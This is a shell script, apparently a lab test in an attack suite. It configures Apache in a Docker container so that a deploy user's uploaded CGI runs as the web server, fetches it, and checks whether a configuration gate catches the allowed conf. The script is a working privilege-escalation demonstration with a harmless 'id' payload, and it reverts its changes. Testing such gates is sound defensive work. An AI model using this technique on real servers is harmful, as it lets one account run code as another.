#!/bin/sh
# An admin's conf (allowed in writing) maps a URL to the deploy team's directory and runs CGI there by a handler in a
# <Location>, not a <Directory>: Apache runs the deploy login's script as its run user for whoever asks.
# Usage: attack8/atk_location_handler.sh /tmp/atk8
set -eu
W=${1:-/tmp/atk8}; CT=$(cat $W/ct); HTTP=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['http'])")
cd $W && cp targets.toml targets.before-allow
docker exec $CT sh -c 'install -d -m 2775 -o root -g deployer /srv/tools; a2enmod -q cgid >/dev/null
printf "Alias /tools /srv/tools\n<Location /tools>\n  SetHandler cgi-script\n  Options +ExecCGI\n  Require all granted\n</Location>\n" > /etc/apache2/conf-available/ops-tools.conf
a2enconf -q ops-tools; apache2ctl restart'
printf '#!/bin/sh\necho Content-Type: text/plain\necho\nid\n' | ssh -F $W/ssh_config deployer 'cat > /srv/tools/t.cgi; chmod 755 /srv/tools/t.cgi'
sleep 1; echo "--- GET /tools/t.cgi:"; curl -s $HTTP/tools/t.cgi
sed -i 's/^deploy = false$/deploy = false\nallow_apache_conf = ["\/etc\/apache2\/conf-enabled\/ops-tools.conf"]\nallow_modules = ["cgid_module"]/' targets.toml
echo "--- the gate, the conf and mod_cgid allowed in writing:"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed,|failed,|ops-tools.conf:" | cut -c1-400 || true
[ -n "${KEEP:-}" ] || { cp targets.before-allow targets.toml; docker exec $CT sh -c 'a2disconf -q ops-tools; a2dismod -q cgid; rm -rf /etc/apache2/conf-available/ops-tools.conf /srv/tools; apache2ctl restart'; }
